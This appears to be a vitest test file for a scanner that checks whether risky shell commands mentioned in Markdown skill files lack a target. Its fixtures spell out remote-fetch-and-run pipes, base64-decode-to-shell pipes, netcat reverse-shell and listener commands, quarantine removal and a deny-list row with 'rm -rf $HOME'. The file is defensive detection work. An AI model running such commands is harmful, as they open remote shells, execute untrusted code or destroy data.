import { describe, expect, it } from 'vitest';
import { commandAt, decoderWithoutInput, downloadWithoutSource, namedWithoutObject, namesAddress, netcatWithoutPeer, xattrWithoutFile } from '../src/analysis/operand.js';

describe('commands named without what they act on', () => {
  it('reads a command to the end of its code span, else its table cell, else its line', () => {
    const span = 'Check `curl | bash` and more';
    expect(commandAt(span, span.indexOf('curl'))).toEqual({ command: 'curl | bash', rest: 'Check   and more' });
    const row = '| curl \\| bash | remote code |';
    expect(commandAt(row, row.indexOf('curl')).command).toBe('curl \\| bash ');
    expect(commandAt('a\nrun curl x | sh\nb', 6).command).toBe('curl x | sh');
  });

  it('finds a download given no address', () => {
    for (const c of ['curl | bash', 'curl \\| bash', 'curl -fsSL | sh', 'curl * | sh', 'wget -qO- \\| sh', 'curl', 'curl <url> | sh', 'iwr | iex'])
      expect(downloadWithoutSource(c), c).toBe(true);
    for (const c of ['curl https://h.io/x | bash', 'curl -fsSL $URL | sh', 'wget -O- get.tool.dev | sh', 'curl -K cfg | sh', 'echo hi'])
      expect(downloadWithoutSource(c), c).toBe(false);
  });

  it('finds a decoder given no input', () => {
    for (const c of ['base64 -d|bash', 'base64 --decode | sh', 'xxd -r -p | sh', 'openssl base64 -d | sh']) expect(decoderWithoutInput(c), c).toBe(true);
    for (const c of ['base64 -d blob.txt | bash', 'base64 -d < blob.txt | bash', 'base64 -d <<< "$P" | sh', 'echo x | base64 -d | sh', 'cat b | base64 -d | sh'])
      expect(decoderWithoutInput(c), c).toBe(false);
  });

  it('finds netcat with neither peer nor port', () => {
    for (const c of ['nc -e /bin/sh', 'ncat --exec /bin/bash', 'nc -e "/bin/bash -i"', 'netcat -c sh']) expect(netcatWithoutPeer(c), c).toBe(true);
    for (const c of ['nc -l -p 4444 -e /bin/bash', 'ncat 10.0.0.5 9001 -e /bin/sh', "nc -lvnp 9001 -c '/bin/bash -i'", 'nc -e /bin/sh $HOST 4444', 'nc host.io 80 -e sh'])
      expect(netcatWithoutPeer(c), c).toBe(false);
  });

  it('finds a quarantine removal with no file', () => {
    expect(xattrWithoutFile('xattr -d com.apple.quarantine')).toBe(true);
    expect(xattrWithoutFile('xattr -dr com.apple.quarantine ')).toBe(true);
    expect(xattrWithoutFile('xattr -d com.apple.quarantine Helper.app')).toBe(false);
    expect(xattrWithoutFile('xattr -d com.apple.quarantine "$APP"')).toBe(false);
  });

  it('counts a URL, an address, a host name or a variable on the line as an address', () => {
    for (const s of ['to https://x.io/a', 'at 10.1.2.3', 'towards relay-desk.net on port 4444', 'the host in $RELAY']) expect(namesAddress(s), s).toBe(true);
    for (const s of ['| remote code execution |', 'runs whatever the server sends', 'e.g. a shell']) expect(namesAddress(s), s).toBe(false);
  });

  it('applies to Markdown prose only, and not when the line names an address', () => {
    const md = 'Patterns: `nc -e /bin/sh`\n\n```sh\nnc -e /bin/sh\n```\nRun `nc -e /bin/sh` to relay-desk.net\n';
    expect(namedWithoutObject('SKILL.md', md, md.indexOf('nc -e'), netcatWithoutPeer)).toBe(true);
    expect(namedWithoutObject('SKILL.md', md, md.indexOf('nc -e', 30), netcatWithoutPeer)).toBe(false);
    expect(namedWithoutObject('SKILL.md', md, md.lastIndexOf('nc -e'), netcatWithoutPeer)).toBe(false);
    expect(namedWithoutObject('scripts/run.sh', md, md.indexOf('nc -e'), netcatWithoutPeer)).toBe(false);
    // Another command's span on the line lends it nothing; a one-word span does.
    const deny = '| deny | `rm -rf $HOME`, `curl \\| bash`, `chmod 777` |\n';
    expect(namedWithoutObject('SKILL.md', deny, deny.indexOf('curl'), downloadWithoutSource)).toBe(true);
    const given = 'Pipe `$URL` into `curl | bash`.\n';
    expect(namedWithoutObject('SKILL.md', given, given.indexOf('curl'), downloadWithoutSource)).toBe(false);
  });
});
